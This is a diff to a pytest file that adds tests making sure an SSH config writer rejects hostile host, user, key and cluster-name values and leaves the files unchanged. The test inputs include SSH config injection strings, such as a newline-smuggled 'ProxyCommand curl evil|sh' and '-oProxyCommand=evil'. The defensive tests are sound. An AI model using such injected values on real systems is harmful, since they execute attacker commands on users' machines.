@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from perdure.cli.jobs.enter.ssh_files import SshFolder, SshUnavailable
+from perdure.cli.jobs.enter.ssh_files import InvalidHost, SshFolder, SshUnavailable
 
 KEY, OTHER = "ssh-ed25519 AAAA1", "ssh-ed25519 AAAA2"
 
@@ -45,6 +45,44 @@ def test_config__names_users_other_than_root(folder: SshFolder) -> None:
     assert "job-8" not in text
     folder.remember("job-7", KEY, "root")
     assert "alice" not in folder.config.read_text()
+
+
+@pytest.mark.parametrize(
+    ("host", "key", "user"),
+    [
+        ("job-7", KEY, "x\n    ProxyCommand curl evil|sh"),
+        ("job-7", KEY, "-oProxyCommand=evil"),
+        ("job-7", KEY, ""),
+        ("job-7", f"{KEY}\n* {OTHER}", "root"),
+        ("job-7", "ssh-rsa AAAA", "root"),
+        ("job-7\n    ProxyCommand evil\nHost x", KEY, "root"),
+        ("-oProxyCommand=evil", KEY, "root"),
+        ("a b", KEY, "root"),
+        ("*", KEY, "root"),
+    ],
+)
+def test_hostile_controller__writes_nothing_into_the_files_of_ssh(
+    folder: SshFolder, host: str, key: str, user: str
+) -> None:
+    folder.remember("job-1", KEY, "alice")
+    before = folder.config.read_text(), folder.known_hosts.read_text()
+    with pytest.raises(InvalidHost, match="nothing was written"):
+        folder.remember(host, key, user)
+    assert (folder.config.read_text(), folder.known_hosts.read_text()) == before
+
+
+def test_hostile_cluster_name__is_not_written(folder: SshFolder) -> None:
+    folder.remember("job-1", KEY, "alice")
+    before = folder.config.read_text()
+    with pytest.raises(InvalidHost):
+        folder.list_clusters(["dev", "x\n    ProxyCommand evil"])
+    assert folder.config.read_text() == before
+
+
+@pytest.mark.parametrize("user", ["alice", "a.b-c_d+e@example.org", "machine$", "1000"])
+def test_user__may_be_any_account(folder: SshFolder, user: str) -> None:
+    folder.remember("job-1", KEY, user)
+    assert f"    User {user}\n" in folder.config.read_text()
 
 
 def test_config__names_the_clusters_that_exist(folder: SshFolder) -> None:
